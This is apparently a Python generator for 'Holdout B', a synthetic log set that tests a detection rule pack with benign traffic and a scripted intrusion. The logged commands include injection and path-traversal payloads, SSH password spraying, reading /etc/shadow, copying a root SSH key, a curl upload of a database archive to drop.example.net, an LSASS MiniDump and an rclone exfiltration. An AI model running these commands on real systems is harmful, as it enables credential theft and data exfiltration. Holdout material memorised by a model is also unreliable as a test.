#!/usr/bin/env python3
"""Holdout B: an autonomous intrusion Parry's rule-pack author never saw, with benign traffic. Log lines only."""
import json, random, os, sys
from datetime import datetime, timedelta, timezone
R = random.Random(20260519)
OUT = sys.argv[1]
os.makedirs(OUT, exist_ok=True)
T0 = datetime(2026, 5, 19, 14, 0, 0, tzinfo=timezone.utc)
web, auth, sysmon = [], [], []

def clf(t): return t.strftime('%d/%b/%Y:%H:%M:%S +0000')
def w(t, ip, method, path, status, size, ua, ref='-'):
    web.append((t, f'{ip} - - [{clf(t)}] "{method} {path} HTTP/1.1" {status} {size} "{ref}" "{ua}"'))
def s(t, host, prog, pid, msg):
    auth.append((t, f'{t.isoformat(timespec="microseconds")} {host} {prog}[{pid}]: {msg}'))
rec = [500000]
def sm(t, host, eid, data, user_sid='S-1-5-21-1111-2222-3333-1107'):
    rec[0] += 1
    ev = {"Event": {"#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
        "System": {"Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon", "Guid": "5770385F-C22A-43E0-BF4C-06F5698FFBD9"}},
            "EventID": eid, "Version": 5, "Level": 4, "Task": eid, "Opcode": 0, "Keywords": "0x8000000000000000",
            "TimeCreated": {"#attributes": {"SystemTime": t.strftime('%Y-%m-%dT%H:%M:%S.%fZ')}},
            "EventRecordID": rec[0], "Correlation": None,
            "Execution": {"#attributes": {"ProcessID": 2840, "ThreadID": 3312}},
            "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": host,
            "Security": {"#attributes": {"UserID": "S-1-5-18"}}},
        "EventData": data}}
    sysmon.append((t, json.dumps(ev)))
guid = lambda: '{%08X-%04X-%04X-%04X-%012X}' % (R.getrandbits(32), R.getrandbits(16), R.getrandbits(16), R.getrandbits(16), R.getrandbits(48))
def proc(t, host, user, image, cmd, parent='C:\\Windows\\System32\\cmd.exe', pcmd='cmd.exe', cwd='C:\\Users\\Public\\'):
    sm(t, host, 1, {"RuleName": "-", "UtcTime": t.strftime('%Y-%m-%d %H:%M:%S.%f')[:-3], "ProcessGuid": guid(),
        "ProcessId": R.randint(1000, 9000), "Image": image, "FileVersion": "-", "Description": "-", "Product": "-",
        "Company": "-", "OriginalFileName": image.split('\\')[-1].upper(), "CommandLine": cmd, "CurrentDirectory": cwd,
        "User": user, "LogonGuid": guid(), "LogonId": "0x5a1f3c", "TerminalSessionId": 0, "IntegrityLevel": "High",
        "Hashes": "SHA256=" + '%064X' % R.getrandbits(256), "ParentProcessGuid": guid(), "ParentProcessId": 4410,
        "ParentImage": parent, "ParentCommandLine": pcmd, "ParentUser": user})

BROWSERS = ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
            'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15',
            'Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0']
PAGES = ['/', '/shop', '/shop/category/tents', '/shop/category/boots', '/shop/item/4411', '/shop/item/1208', '/about',
         '/blog', '/blog/2026/05/trail-guide', '/contact', '/cart', '/shop/search?q=rain+jacket', '/shop/item/3307']
ASSETS = ['/static/css/site.4f1c.css', '/static/js/app.93ab.js', '/static/img/logo.svg', '/static/fonts/inter.woff2', '/favicon.ico']

# --- people: browsing with assets, human pauses; one fast clicker; one forgotten password -----------------------
for n, ip in enumerate(['192.0.2.41', '192.0.2.58', '192.0.2.102', '198.51.100.140', '192.0.2.77']):
    t = T0 + timedelta(seconds=R.uniform(0, 900))
    ua = BROWSERS[n % 3]
    prev = '-'
    for _ in range(R.randint(8, 16)):
        p = R.choice(PAGES)
        w(t, ip, 'GET', p, 200, R.randint(4000, 30000), ua, prev)
        for a in R.sample(ASSETS, R.randint(2, 5)):
            t += timedelta(seconds=R.uniform(0.02, 0.3))
            w(t, ip, 'GET', a, R.choice([200, 304]), R.randint(300, 90000), ua, 'https://shop.example.org' + p)
        prev = 'https://shop.example.org' + p
        t += timedelta(seconds=R.uniform(2.5 if n == 4 else 6, 9 if n == 4 else 60))
# a customer who forgot her password: three failures, reset, success
t = T0 + timedelta(minutes=12)
for st in [401, 401, 401]:
    w(t, '192.0.2.58', 'POST', '/account/signin', st, 512, BROWSERS[1], 'https://shop.example.org/account/signin'); t += timedelta(seconds=R.uniform(7, 15))
w(t, '192.0.2.58', 'GET', '/account/reset', 200, 3400, BROWSERS[1]); t += timedelta(seconds=70)
w(t, '192.0.2.58', 'POST', '/account/signin', 302, 0, BROWSERS[1])
# a few stray 404s from people (old bookmarks)
for ip in ['192.0.2.41', '192.0.2.102']:
    w(T0 + timedelta(seconds=R.uniform(100, 1500)), ip, 'GET', '/shop/item/999', 404, 1500, BROWSERS[0])
# --- a polite crawler: robots.txt, one page every 3-8 s, walks many pages --------------------------------------
t = T0 + timedelta(minutes=3)
bot = 'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)'
w(t, '198.51.100.201', 'GET', '/robots.txt', 200, 210, bot)
for i in range(140):
    t += timedelta(seconds=R.uniform(3, 8))
    p = R.choice(PAGES[:-1] + [f'/shop/item/{R.randint(1000, 5000)}', f'/blog/page/{R.randint(1, 20)}'])
    st = 404 if R.random() < 0.06 else 200
    w(t, '198.51.100.201', 'GET', p, st, R.randint(2000, 30000), bot)
# --- an uptime monitor: every 30 s the same health URL -----------------------------------------------------------
for i in range(60):
    w(T0 + timedelta(seconds=30 * i + 0.2), '192.0.2.250', 'GET', '/healthz', 200, 2, 'Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)')
# --- admins: ssh with keys, a typo'd password, sudo for maintenance ---------------------------------------------
t = T0 + timedelta(minutes=5)
s(t, 'web02', 'sshd', 2101, 'Accepted publickey for mkovacs from 192.0.2.30 port 50122 ssh2: ED25519 SHA256:q1w2e3r4t5y6u7i8o9p0a1s2d3f4g5h6j7k8l9z0x1c'); t += timedelta(seconds=25)
s(t, 'web02', 'sudo', 2120, '  mkovacs : TTY=pts/0 ; PWD=/home/mkovacs ; USER=root ; COMMAND=/usr/bin/apt-get update'); t += timedelta(seconds=95)
s(t, 'web02', 'sudo', 2188, '  mkovacs : TTY=pts/0 ; PWD=/home/mkovacs ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx'); t += timedelta(seconds=40)
s(t, 'web02', 'sudo', 2190, '  mkovacs : TTY=pts/0 ; PWD=/home/mkovacs ; USER=root ; COMMAND=/usr/bin/journalctl -u nginx -n 50')
t = T0 + timedelta(minutes=9)
s(t, 'db01', 'sshd', 3301, 'Failed password for lchen from 192.0.2.31 port 51510 ssh2'); t += timedelta(seconds=6)
s(t, 'db01', 'sshd', 3301, 'Failed password for lchen from 192.0.2.31 port 51510 ssh2'); t += timedelta(seconds=9)
s(t, 'db01', 'sshd', 3301, 'Accepted password for lchen from 192.0.2.31 port 51510 ssh2'); t += timedelta(seconds=30)
s(t, 'db01', 'sudo', 3340, '    lchen : TTY=pts/1 ; PWD=/home/lchen ; USER=postgres ; COMMAND=/usr/bin/psql -c select 1')
for i in range(28):  # a deploy job: key logins every minute, same user, same source
    tt = T0 + timedelta(minutes=i, seconds=2)
    s(tt, 'web02', 'sshd', 4000 + i, 'Accepted publickey for ci-runner from 192.0.2.60 port %d ssh2: RSA SHA256:Zm9vYmFyYmF6cXV4cXV1eHh5enp5eA' % (40000 + i))
    s(tt + timedelta(seconds=1), 'web02', 'sshd', 4000 + i, 'pam_unix(sshd:session): session opened for user ci-runner(uid=1002) by (uid=0)')
# office workstation processes on Windows
for i in range(25):
    tt = T0 + timedelta(seconds=R.uniform(0, 1700))
    img, cmd = R.choice([('C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE', '"OUTLOOK.EXE"'),
        ('C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', '"chrome.exe" --type=renderer'),
        ('C:\\Windows\\System32\\ipconfig.exe', 'ipconfig /flushdns'), ('C:\\Windows\\System32\\whoami.exe', 'whoami'),
        ('C:\\Windows\\System32\\notepad.exe', 'notepad.exe C:\\Users\\ajones\\notes.txt')])
    proc(tt, 'WS-0142.corp.example.org', 'CORP\\ajones', img, cmd, 'C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE', 'C:\\Users\\ajones\\')

# --- the operator: 198.51.100.23, machine tempo throughout ------------------------------------------------------
A = '198.51.100.23'
UA = 'python-httpx/0.27.0'
t = T0 + timedelta(minutes=14, seconds=3)
w(t, A, 'GET', '/', 200, 18000, UA)
WORDS = ['.env', '.git/HEAD', '.git/config', 'admin', 'administrator', 'backup', 'backup.tar.gz', 'db.sql', 'dump.sql', 'config.php.bak',
         'wp-admin', 'phpmyadmin', 'server-status', 'api', 'api/v1', 'api/v2', 'api/v1/users', 'api/v1/orders', 'graphql', 'console',
         'actuator', 'actuator/env', 'debug', 'test', 'old', 'dev', 'staging', 'uploads', 'files', 'private', 'secret', '.svn/entries',
         '.DS_Store', 'config.json', 'settings.py', 'web.config', 'id_rsa', '.ssh/id_rsa', 'logs', 'log', 'tmp', 'cgi-bin/', 'manager/html',
         'jenkins', 'grafana', 'kibana', 'internal', 'export', 'download', 'account', 'account/signin', 'shop/admin', 'shop/export.csv']
WORDS += [f'{a}{b}' for a in ['backup', 'site', 'shop', 'db'] for b in ['.zip', '.tar', '.bak', '.old', '_2026.zip']]
for word in WORDS + [x + '/' for x in WORDS[:60]]:
    t += timedelta(seconds=R.uniform(0.05, 0.45))
    st = 200 if word in ('account/signin', 'download', 'api/v1') else (403 if word.startswith('.git') or word == 'server-status' else 404)
    w(t, A, 'GET', '/' + word, st, R.randint(150, 2000), UA)
# injection probing against the two endpoints it found
for payload in ["1'", "1%27%20OR%20%271%27=%271", "1%20AND%201=1", "1%20AND%201=2", "1%20UNION%20SELECT%20NULL--", "1%20UNION%20SELECT%20NULL,NULL--",
                "1;SELECT%20pg_sleep(5)--", "%3Cscript%3Ealert(1)%3C/script%3E", "{{7*7}}", "${7*7}", "1%7C%7Cid"]:
    t += timedelta(seconds=R.uniform(0.1, 0.5))
    w(t, A, 'GET', '/api/v1?item=' + payload, R.choice([500, 400, 200]), R.randint(100, 900), UA)
for payload in ['../../../../etc/passwd', '..%2F..%2F..%2F..%2Fetc%2Fpasswd', '....//....//etc/passwd', '/etc/passwd%00', 'C:\\windows\\win.ini']:
    t += timedelta(seconds=R.uniform(0.1, 0.5))
    w(t, A, 'GET', '/download?file=' + payload, R.choice([400, 404, 500]), R.randint(100, 900), UA)
# login guessing on the web sign-in, then a hit
for i in range(45):
    t += timedelta(seconds=R.uniform(0.2, 0.7))
    w(t, A, 'POST', '/account/signin', 401, 512, UA)
t += timedelta(seconds=0.4)
w(t, A, 'POST', '/account/signin', 302, 0, UA)
for p in ['/account', '/account/orders', '/account/settings', '/account/api-keys']:
    t += timedelta(seconds=R.uniform(0.2, 0.6)); w(t, A, 'GET', p, 200, R.randint(2000, 9000), UA)
# SSH: spray a few accounts, then the account whose password it found
t += timedelta(seconds=3)
port = 40100
for user in ['root', 'admin', 'ubuntu', 'deploy', 'www-data', 'oracle', 'test', 'git', 'deploy', 'postgres', 'deploy', 'jenkins', 'ubuntu', 'deploy']:
    t += timedelta(seconds=R.uniform(0.4, 1.1)); port += 1
    if user in ('root', 'deploy', 'ubuntu', 'postgres', 'www-data', 'git', 'jenkins'):
        s(t, 'web02', 'sshd', 5000 + port % 100, f'Failed password for {user} from {A} port {port} ssh2')
    else:
        s(t, 'web02', 'sshd', 5000 + port % 100, f'Failed password for invalid user {user} from {A} port {port} ssh2')
t += timedelta(seconds=0.9); port += 1
s(t, 'web02', 'sshd', 5200, f'Accepted password for deploy from {A} port {port} ssh2')
s(t + timedelta(seconds=0.05), 'web02', 'sshd', 5200, 'pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)')
# discovery through sudo, seconds apart
for cmd in ['/usr/bin/id', '/usr/bin/uname -a', '/usr/bin/hostname', '/usr/bin/cat /etc/os-release', '/usr/sbin/ip addr', '/usr/bin/ss -tulpn',
            '/usr/bin/cat /etc/passwd', '/usr/bin/ps aux', '/usr/bin/netstat -rn', '/usr/bin/find /home -name *.kdbx']:
    t += timedelta(seconds=R.uniform(0.3, 1.0))
    s(t, 'web02', 'sudo', 5300, f'  deploy : TTY=pts/2 ; PWD=/home/deploy ; USER=root ; COMMAND={cmd}')
t += timedelta(seconds=0.8)
s(t, 'web02', 'sudo', 5310, '  deploy : TTY=pts/2 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow')
t += timedelta(seconds=0.6)
s(t, 'web02', 'sudo', 5311, '  deploy : TTY=pts/2 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/cp /root/.ssh/id_ed25519 /tmp/.k')
# pivot to the database host with the stolen key
t += timedelta(seconds=2.1)
s(t, 'db01', 'sshd', 6100, 'Accepted publickey for deploy from 10.20.0.12 port 38812 ssh2: ED25519 SHA256:b3BlcmF0b3JzdG9sZW5rZXlmaW5nZXJwcmludA')
for cmd in ['/usr/bin/id', '/usr/bin/hostname', '/usr/bin/ls -la /var/lib/postgresql', '/usr/bin/tar czf /tmp/.p.tgz /var/lib/postgresql/16/main',
            '/usr/bin/curl -s -T /tmp/.p.tgz https://drop.example.net/u/7f3a', '/usr/bin/rm -f /tmp/.p.tgz']:
    t += timedelta(seconds=R.uniform(0.4, 1.2))
    s(t, 'db01', 'sudo', 6120, f'  deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND={cmd}')
# the same account on a Windows file server (domain account deploy), machine tempo
W = 'FS02.corp.example.org'; U = 'CORP\\deploy'
t += timedelta(seconds=4)
for img, cmd in [('whoami.exe', 'whoami /all'), ('net.exe', 'net group "domain admins" /domain'), ('nltest.exe', 'nltest /dclist:corp.example.org'),
                 ('ipconfig.exe', 'ipconfig /all'), ('systeminfo.exe', 'systeminfo'), ('net.exe', 'net share'), ('tasklist.exe', 'tasklist /v'),
                 ('quser.exe', 'quser'), ('arp.exe', 'arp -a'), ('net.exe', 'net view \\\\FS01')]:
    t += timedelta(seconds=R.uniform(0.3, 0.9))
    proc(t, W, U, 'C:\\Windows\\System32\\' + img, cmd)
t += timedelta(seconds=1.2)
proc(t, W, U, 'C:\\Windows\\System32\\rundll32.exe', 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Users\\Public\\m.dmp full')
t += timedelta(seconds=2.0)
proc(t, W, U, 'C:\\Program Files\\7-Zip\\7z.exe', '7z.exe a -r -pInfected1 C:\\Users\\Public\\s.7z D:\\Shares\\Finance\\*', cwd='D:\\Shares\\')
t += timedelta(seconds=6.0)
proc(t, W, U, 'C:\\Users\\Public\\rclone.exe', 'rclone.exe copy C:\\Users\\Public\\s.7z remote:bucket-7f3a --transfers 8')

for name, rows in [('access.log', web), ('auth.log', auth), ('sysmon.jsonl', sysmon)]:
    rows.sort(key=lambda r: r[0])
    with open(os.path.join(OUT, name), 'w') as f:
        for _, line in rows: f.write(line + '\n')
print({n: len(r) for n, r in [('web', web), ('auth', auth), ('sysmon', sysmon)]})
